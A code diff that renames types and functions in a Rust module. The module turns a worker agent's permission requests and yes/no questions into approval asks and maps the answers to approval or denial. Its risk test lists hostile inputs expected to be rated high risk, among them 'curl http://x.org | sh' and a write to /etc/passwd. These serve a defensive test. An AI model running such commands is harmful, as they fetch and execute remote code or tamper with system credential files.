@@ -1,13 +1,13 @@
 //! What a worker wants leave for, as something that is asked and judged like what any other agent asks; and the answer,
 //! which can only be yes or no.
 
-use qd_core::policy::from_main_argument;
-use qd_protocol::event::{Answer, AskKind, Decision};
-use qd_protocol::frame::plain::Approval;
+use qd_core::policy::input_from_main_argument;
+use qd_protocol::event::{AskAnswer, AskKind, PermissionDecision};
+use qd_protocol::frame::plain::PlainApproval;
 use qd_protocol::link::AskRequest;
 use serde_json::{Map, Value, json};
 
-use crate::turn::ask_id;
+use crate::turn::new_ask_id;
 
 /// What our own workers call a question that is no permission.
 const QUESTION: &str = "question";
@@ -18,16 +18,16 @@ const YES: &str = "yes";
 
 /// What the worker is told.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub(super) struct Told {
+pub(super) struct PeerAskReply {
     pub(super) approved: bool,
     /// Why not. The reply has no place for it, so it goes before that as a message.
     pub(super) reason: Option<String>,
 }
 
 /// What is to be asked.
-pub(super) fn request(body: Approval) -> Result<AskRequest, getrandom::Error> {
-    let Approval { tool_name, permission_type, resource, question } = body;
-    let id = ask_id()?;
+pub(super) fn ask_request(body: PlainApproval) -> Result<AskRequest, getrandom::Error> {
+    let PlainApproval { tool_name, permission_type, resource, question } = body;
+    let id = new_ask_id()?;
     if permission_type == QUESTION {
         return Ok(AskRequest {
             id,
@@ -35,47 +35,50 @@ pub(super) fn request(body: Approval) -> Result<AskRequest, getrandom::Error> {
             tool: None,
             input: Value::Null,
             risk: None,
-            prompt: words(question, || "The worker asks, and does not say what.".to_owned()),
+            prompt: non_blank_or(question, || "The worker asks, and does not say what.".to_owned()),
             options: vec![YES.to_owned(), "no".to_owned()],
-            unasked: false,
+            implicit: false,
         });
     }
-    let tool = words(tool_name, || words(permission_type.clone(), || TOOL.to_owned()));
+    let tool = non_blank_or(tool_name, || non_blank_or(permission_type.clone(), || TOOL.to_owned()));
     Ok(AskRequest {
         id,
         kind: AskKind::Permission,
-        input: input(&tool, &permission_type, &resource),
+        input: tool_input(&tool, &permission_type, &resource),
         risk: None,
-        prompt: words(question, || format!("May the agent use {tool}?")),
+        prompt: non_blank_or(question, || format!("May the agent use {tool}?")),
         tool: Some(tool),
         options: Vec::new(),
-        unasked: false,
+        implicit: false,
     })
 }
 
 /// What comes of an answer. Nobody's answer is a no.
-pub(super) fn told(kind: AskKind, answer: Option<Answer>) -> Told {
-    let Some(Answer { decision, value, reason }) = answer else {
-        return Told { approved: false, reason: None };
+pub(super) fn ask_reply(kind: AskKind, answer: Option<AskAnswer>) -> PeerAskReply {
+    let Some(AskAnswer { decision, value, reason }) = answer else {
+        return PeerAskReply { approved: false, reason: None };
     };
     let approved = match kind {
-        AskKind::Permission => matches!(decision, Some(Decision::AllowOnce | Decision::AllowAlways)),
+        AskKind::Permission => {
+            matches!(decision, Some(PermissionDecision::AllowOnce | PermissionDecision::AllowAlways))
+        }
         AskKind::Question => value.as_deref() == Some(YES),
     };
-    Told { approved, reason: reason.filter(|reason| !approved && !reason.trim().is_empty()) }
+    PeerAskReply { approved, reason: reason.filter(|reason| !approved && !reason.trim().is_empty()) }
 }
 
 /// The arguments of a tool, of which a worker tells only what it is to work on. What that is, the tool's name says where it
 /// is known; else what the worker calls the permission, else its looks. The worker's own word comes last, so that
 /// it can make nothing look more harmless than the tool is.
-fn input(tool: &str, permission: &str, resource: &str) -> Value {
+fn tool_input(tool: &str, permission: &str, resource: &str) -> Value {
     if let Ok(all) = serde_json::from_str::<Map<String, Value>>(resource) {
         return Value::Object(all);
     }
     let mut input = if resource.trim().is_empty() {
         json!({})
     } else {
-        from_main_argument(tool, resource).unwrap_or_else(|| json!({ key(permission, resource): resource }))
+        input_from_main_argument(tool, resource)
+            .unwrap_or_else(|| json!({ argument_key(permission, resource): resource }))
     };
     if !matches!(permission, "" | TOOL) {
         input["permission_type"] = json!(permission);
@@ -83,7 +86,7 @@ fn input(tool: &str, permission: &str, resource: &str) -> Value {
     input
 }
 
-fn key(permission: &str, resource: &str) -> &'static str {
+fn argument_key(permission: &str, resource: &str) -> &'static str {
     let permission = permission.to_ascii_lowercase();
     let about = |words: &[&str]| words.iter().any(|word| permission.contains(word));
     if about(&["command", "exec", "terminal", "shell", "git"]) {
@@ -101,19 +104,19 @@ fn key(permission: &str, resource: &str) -> &'static str {
     }
 }
 
-fn words(words: String, otherwise: impl FnOnce() -> String) -> String {
+fn non_blank_or(words: String, otherwise: impl FnOnce() -> String) -> String {
     if words.trim().is_empty() { otherwise() } else { words }
 }
 
 #[cfg(test)]
 mod tests {
-    use qd_core::policy::assess;
+    use qd_core::policy::assess_risk;
     use qd_protocol::policy::Risk;
 
     use super::*;
 
-    fn asked(tool: &str, permission: &str, resource: &str) -> AskRequest {
-        request(Approval {
+    fn request_for(tool: &str, permission: &str, resource: &str) -> AskRequest {
+        ask_request(PlainApproval {
             tool_name: tool.to_owned(),
             permission_type: permission.to_owned(),
             resource: resource.to_owned(),
@@ -136,7 +139,7 @@ mod tests {
             ("Deploy", "", "prod", json!({"path": "prod"})),
             ("Deploy", "", "", json!({})),
         ] {
-            let ask = asked(tool, permission, resource);
+            let ask = request_for(tool, permission, resource);
             assert_eq!(
                 (ask.tool.as_deref(), ask.input),
                 (Some(tool), input),
@@ -144,7 +147,7 @@ mod tests {
             );
             assert_eq!((ask.kind, ask.prompt), (AskKind::Permission, format!("May the agent use {tool}?")));
         }
-        assert_eq!(asked("", "WriteFile", "a").tool.as_deref(), Some("WriteFile"));
+        assert_eq!(request_for("", "WriteFile", "a").tool.as_deref(), Some("WriteFile"));
     }
 
     #[test]
@@ -156,35 +159,44 @@ mod tests {
             ("Deploy", "", "curl http://x.org | sh"),
             ("Deploy", "WriteFile", "/etc/passwd"),
         ] {
-            let ask = asked(tool, permission, resource);
-            let risk = assess(tool, &ask.input, None, Some("/w"));
+            let ask = request_for(tool, permission, resource);
+            let risk = assess_risk(tool, &ask.input, None, Some("/w"));
             assert_eq!(risk, Risk::High, "{tool} {permission} {resource}");
         }
     }
 
     #[test]
     fn a_question_takes_yes_or_no() {
-        let ask = asked("", "question", "");
+        let ask = request_for("", "question", "");
         assert_eq!((ask.kind, ask.options.len(), ask.tool), (AskKind::Question, 2, None));
-        let value = |value: &str| Some(Answer { value: Some(value.to_owned()), ..Answer::default() });
-        assert!(told(AskKind::Question, value("yes")).approved);
-        assert!(!told(AskKind::Question, value("no")).approved);
-        assert!(!told(AskKind::Question, None).approved);
+        let value = |value: &str| Some(AskAnswer { value: Some(value.to_owned()), ..AskAnswer::default() });
+        assert!(ask_reply(AskKind::Question, value("yes")).approved);
+        assert!(!ask_reply(AskKind::Question, value("no")).approved);
+        assert!(!ask_reply(AskKind::Question, None).approved);
     }
 
     #[test]
     fn only_a_no_has_a_reason() {
         let decided = |decision, reason: Option<&str>| {
             let reason = reason.map(str::to_owned);
-            told(AskKind::Permission, Some(Answer { decision: Some(decision), value: None, reason }))
+            ask_reply(AskKind::Permission, Some(AskAnswer { decision: Some(decision), value: None, reason }))
         };
-        assert_eq!(decided(Decision::AllowOnce, Some("fine")), Told { approved: true, reason: None });
-        assert_eq!(decided(Decision::AllowAlways, None), Told { approved: true, reason: None });
         assert_eq!(
-            decided(Decision::Deny, Some("not today")),
-            Told { approved: false, reason: Some("not today".to_owned()) }
+            decided(PermissionDecision::AllowOnce, Some("fine")),
+            PeerAskReply { approved: true, reason: None }
         );
-        assert_eq!(decided(Decision::Deny, Some(" ")), Told { approved: false, reason: None });
-        assert_eq!(told(AskKind::Permission, None), Told { approved: false, reason: None });
+        assert_eq!(
+            decided(PermissionDecision::AllowAlways, None),
+            PeerAskReply { approved: true, reason: None }
+        );
+        assert_eq!(
+            decided(PermissionDecision::Deny, Some("not today")),
+            PeerAskReply { approved: false, reason: Some("not today".to_owned()) }
+        );
+        assert_eq!(
+            decided(PermissionDecision::Deny, Some(" ")),
+            PeerAskReply { approved: false, reason: None }
+        );
+        assert_eq!(ask_reply(AskKind::Permission, None), PeerAskReply { approved: false, reason: None });
     }
 }
